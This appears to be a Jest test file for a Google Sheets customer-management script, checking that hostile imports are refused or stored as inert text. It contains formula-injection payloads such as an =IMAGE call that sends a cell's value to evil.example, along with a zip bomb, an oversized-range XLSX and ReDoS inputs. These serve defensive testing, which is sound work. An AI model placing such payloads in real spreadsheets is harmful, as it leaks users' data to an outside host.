import { readFileSync } from "node:fs";
import path from "node:path";
import Papa from "papaparse";
import { strToU8 } from "fflate";
import { columnLetter } from "../../../src/core/table/a1";
import { parsePhone } from "../../../src/core/table/parse";
import { CUSTOM_HEADER, OWNER } from "../../../src/local/faults/fixture";
import { SUPER_LINEAR, workGrowth } from "../../core/table/work-ratio";
import { WORKBOOK_PARTS, xlsxWithRows, zeroBomb, zipOf } from "../../core/table/zip-fixtures";
import { tableBundle } from "../table/harness";
import { loadTrustBundle } from "./harness";

/**
 * Attacks through the data itself (issue 15, items 9 and 10), on the built bundle: each is refused with a
 * sentence naming the file and the cap, or is harmless (text stays text, work stays linear).
 */

type Loaded = ReturnType<typeof loadTrustBundle>;

const b64 = (bytes: Uint8Array | Buffer) => Buffer.from(bytes).toString("base64");
const EVIL = '=IMAGE("https://evil.example/x?"&E2)';
const HEADER = '<row r="1"><c r="A1" t="inlineStr"><is><t>CustomerID</t></is></c></row>';

function customers(loaded: Loaded): GoogleAppsScript.Spreadsheet.Sheet {
  return loaded.emulator.spreadsheet.getSheetByName("Customers")!;
}

/** The value and formula of the cell in column `header` of the customer `id`. */
function cell(loaded: Loaded, id: string, header: string): { value: unknown; formula: string } {
  const sheet = customers(loaded);
  const grid = sheet.getRange(1, 1, sheet.getLastRow(), sheet.getLastColumn());
  const values = grid.getValues();
  const formulas = grid.getFormulas();
  const column = values[0].indexOf(header);
  const row = values.findIndex((r) => r[0] === id);
  if (column < 0 || row < 0) throw new Error(`no cell ${header} of ${id}`);
  return { value: values[row][column], formula: formulas[row][column] };
}

/** Every formula in the Customers sheet, as "A1: =…". */
function formulas(loaded: Loaded): string[] {
  const sheet = customers(loaded);
  const grid = sheet.getRange(1, 1, sheet.getLastRow(), sheet.getLastColumn()).getFormulas();
  return grid.flatMap((r, i) => r.flatMap((f, j) => (f ? [`${i + 1}:${j + 1} ${f}`] : [])));
}

describe("attacks through input data (issue 15, items 9 and 10)", () => {
  it("a 50,000-character phone cell: linear work, validated like any bad phone", () => {
    // The pattern that dropped extensions retried its \s* from every space: 3.3 s for one such cell.
    for (const make of [(n: number) => `1${" ".repeat(n)}1`, (n: number) => `${"\t".repeat(n)}x1`])
      expect(workGrowth(parsePhone, make)).toBeLessThan(SUPER_LINEAR);
    const loaded = loadTrustBundle();
    const hostile = `138${" ".repeat(49_996)}1`;
    const sheet = customers(loaded);
    const phoneAt = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0].indexOf("Phone") + 1;
    sheet.getRange(2, phoneAt).setValue(hostile);
    const summary = loaded.ctx.validateAll();
    const at = `${columnLetter(phoneAt - 1)}2`;
    expect(summary.problems.filter((p: { a1: string }) => p.a1 === at)).toHaveLength(1);
    expect(cell(loaded, "C0001", "Phone").value).toBe(hostile);
  });

  it("a tiny XLSX naming cell XFD1048576 is refused before any grid is built", () => {
    const loaded = loadTrustBundle();
    const bytes = xlsxWithRows(`${HEADER}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>`);
    expect(bytes.length).toBeLessThan(1000);
    expect(() => loaded.run("parseImportFile", b64(bytes), "far.xlsx")).toThrow(
      "far.xlsx was not imported: its sheet spans A1:XFD1048576, 17,179,869,184 cells, past Google Sheets' limit of 10,000,000.",
    );
    // In the user's language.
    expect(() => tableBundle("zh_CN").ctx.parseImportFile(b64(bytes), "远.xlsx")).toThrow(
      "未导入 远.xlsx：工作表范围 A1:XFD1048576 共 17,179,869,184 个单元格，超过 Google 表格的上限 10,000,000。",
    );
  });

  it("a 410 KB zip bomb (400 MB inflated) is refused from its directory; one lying about its size stops early", () => {
    const loaded = loadTrustBundle();
    const workbook = Object.entries(WORKBOOK_PARTS).map(([name, text]) => {
      const data = strToU8(text);
      return { name, data, method: 0 as const, size: data.length };
    });
    const bomb = zeroBomb(400);
    const honest = zipOf([
      ...workbook,
      { name: "xl/worksheets/sheet1.xml", data: bomb, method: 8, size: 400 << 20 },
    ]);
    expect(honest.length).toBeLessThan(420_000);
    expect(() => loaded.run("parseImportFile", b64(honest), "bomb.xlsx")).toThrow(
      /^bomb\.xlsx was not imported: it would inflate to more than 100 MB \(xl\/worksheets\/sheet1\.xml 419430400 bytes\); refused without inflating it\.$/,
    );
    const lying = zipOf([
      ...workbook,
      { name: "xl/worksheets/sheet1.xml", data: bomb, method: 8, size: 4_000 },
    ]);
    expect(() => loaded.run("parseImportFile", b64(lying), "liar.xlsx")).toThrow(
      "liar.xlsx was not imported: xl/worksheets/sheet1.xml inflates past the 4,000 bytes its zip directory declares: the file is damaged or forged.",
    );
  });

  it("an oversized CSV is refused before decoding; a cell over 50,000 characters is named by line and column", () => {
    const loaded = loadTrustBundle();
    const big = Buffer.alloc(10 * 1024 * 1024 + 10, "a");
    expect(() => loaded.run("parseImportFile", b64(big), "huge.csv")).toThrow(
      "huge.csv is larger than 10 MB; split it first.",
    );
    const long = Buffer.from(`CustomerID,Name\nC9001,${"n".repeat(60_000)}\n`);
    expect(() => loaded.run("parseImportFile", b64(long), "long.csv")).toThrow(
      "long.csv was not imported: line 2, column B holds 60,000 characters; a Google Sheets cell holds at most 50,000.",
    );
    // Staged directly (bypassing the reader), such a row is rejected with its line, not written.
    const request = { sheet: "Customers", headers: ["CustomerID", "Name"], dedupe: "add" };
    const job = loaded.run("importStage", null, request, [["C9002", "n".repeat(50_001)]], [7]);
    const report = loaded.run("importCommit", job, request);
    expect(report.added).toBe(0);
    expect(report.rejected).toHaveLength(1);
    expect(report.rejected[0].line).toBe(7);
    expect(report.rejected[0].reason).toMatch(
      /^Name: 50001 characters, more than a Google Sheets cell holds \(50,000\)/,
    );
  });

  it("formulas arriving by import (CSV, XLSX, a direct stage call) are stored as the text itself", () => {
    const loaded = loadTrustBundle();
    const csv = `CustomerID,Name,Notes\nC9101,"${EVIL.replace(/"/g, '""')}",@SUM(1)\n`;
    const parsed = loaded.run("parseImportFile", b64(Buffer.from(csv)), "evil.csv");
    const xlsx = xlsxWithRows(
      '<row r="1"><c r="A1" t="inlineStr"><is><t>CustomerID</t></is></c><c r="B1" t="inlineStr"><is><t>Name</t></is></c></row>' +
        '<row r="2"><c r="A2" t="inlineStr"><is><t>C9102</t></is></c><c r="B2" t="inlineStr"><is><t>=HYPERLINK("http://evil.example")</t></is></c></row>' +
        '<row r="3"><c r="A3" t="inlineStr"><is><t>C9103</t></is></c><c r="B3"><f>IMAGE("http://evil.example")</f><v>0</v></c></row>',
    );
    const fromXlsx = loaded.run("parseImportFile", b64(xlsx), "evil.xlsx");
    for (const file of [parsed, fromXlsx]) {
      const request = { sheet: "Customers", headers: file.headers, dedupe: "add" };
      const job = loaded.run("importStage", null, request, file.rows, file.lines);
      expect(loaded.run("importCommit", job, request).rejected).toEqual([]);
    }
    // A caller skipping the reader may send any JSON: an array holding a formula is still text.
    const request = { sheet: "Customers", headers: ["CustomerID", "Name", CUSTOM_HEADER], dedupe: "add" };
    const job = loaded.run("importStage", null, request, [["C9104", "Array Ltd", [EVIL]]], [2]);
    loaded.run("importCommit", job, request);

    expect(cell(loaded, "C9101", "Name")).toEqual({ value: EVIL, formula: "" });
    expect(cell(loaded, "C9101", "Notes")).toEqual({ value: "@SUM(1)", formula: "" });
    expect(cell(loaded, "C9102", "Name")).toEqual({
      value: '=HYPERLINK("http://evil.example")',
      formula: "",
    });
    expect(cell(loaded, "C9103", "Name")).toEqual({ value: 0, formula: "" });
    expect(cell(loaded, "C9104", CUSTOM_HEADER)).toEqual({ value: EVIL, formula: "" });
    expect(formulas(loaded)).toEqual([]);
  });

  it("a tag =IMAGE(…) added by batch edit is stored as text", () => {
    const loaded = loadTrustBundle(1, OWNER);
    loaded.run("batchUpdateCustomers", ["C0001", "C0002"], { addTags: [EVIL] });
    expect(cell(loaded, "C0001", "Tags")).toEqual({ value: EVIL, formula: "" });
    expect(formulas(loaded)).toEqual([]);
  });

  it("a value longer than a cell holds is refused with the cell named, and nothing is written", () => {
    const loaded = loadTrustBundle(1, OWNER);
    const before = cell(loaded, "C0001", "Tags");
    expect(() => loaded.run("batchUpdateCustomers", ["C0001"], { addTags: ["t".repeat(50_001)] })).toThrow(
      /^Cell Customers!\w+2 would hold 50001 characters; a Google Sheets cell holds at most 50000\. Nothing was written\.$/,
    );
    expect(cell(loaded, "C0001", "Tags")).toEqual(before);
  });

  it("restore brings back the user's own formulas as formulas and text as text", () => {
    const loaded = loadTrustBundle();
    const sheet = customers(loaded);
    const headers = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0];
    const notes = headers.indexOf("Notes") + 1;
    const mine = headers.indexOf(CUSTOM_HEADER) + 1;
    sheet.getRange(2, mine).setFormula("=LEN(B2)");
    sheet.getRange(3, notes).setValue(`'${EVIL}`);
    expect(cell(loaded, "C0002", "Notes")).toEqual({ value: EVIL, formula: "" });
    loaded.ctx.menuBackupNow();
    const [set] = loaded.ctx.listBackups();
    loaded.emulator.clock.advance(60_000);
    sheet.getRange(2, mine).setValue("changed");
    sheet.getRange(3, notes).setValue("changed");
    loaded.ctx.restoreBackup(set.id);
    expect(cell(loaded, "C0001", CUSTOM_HEADER).formula).toBe("=LEN(B2)");
    expect(cell(loaded, "C0002", "Notes")).toEqual({ value: EVIL, formula: "" });
  });

  it("no form handler exists to write around writeValues (the web app writes through it: test/gas/webapp)", () => {
    const loaded = loadTrustBundle();
    expect(loaded.functionNames.filter((n) => /^onFormSubmit$/.test(n))).toEqual([]);
    const manifest = JSON.parse(
      readFileSync(path.join(__dirname, "..", "..", "..", "dist", "appsscript.json"), "utf8"),
    );
    expect(manifest.webapp).toBeUndefined();
  });

  it("a CSV export of a name holding ; and a formula is inert in comma and semicolon locales", () => {
    const loaded = loadTrustBundle();
    const name = 'Acme;=HYPERLINK("http://evil.example";"x")';
    const sheet = customers(loaded);
    const nameAt = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0].indexOf("Name") + 1;
    sheet.getRange(2, nameAt).setValue(name);
    const query = { search: "", filters: {}, sort: null, page: 1, pageSize: 25 };
    const file = loaded.run("exportCustomers", query, "csv", "en");
    const text = Buffer.from(file.base64, "base64")
      .toString("utf8")
      .replace(/^\uFEFF/, "");
    const byComma = Papa.parse<string[]>(text, {
      delimiter: ",",
      newline: "\r\n",
      skipEmptyLines: true,
    }).data;
    const header = byComma[0];
    // One field for a comma reader, its inner formula start marked for readers splitting on ";".
    expect(byComma.find((r) => r[0] === "C0001")![header.indexOf("Name")]).toBe(name.replace(";=", ";'="));
    const bySemicolon = Papa.parse<string[]>(text, {
      delimiter: ";",
      newline: "\r\n",
      skipEmptyLines: true,
    }).data;
    for (const rows of [byComma, bySemicolon])
      for (const row of rows) for (const field of row) expect(field).not.toMatch(/^[=+\-@\t\r]/);
  });
});
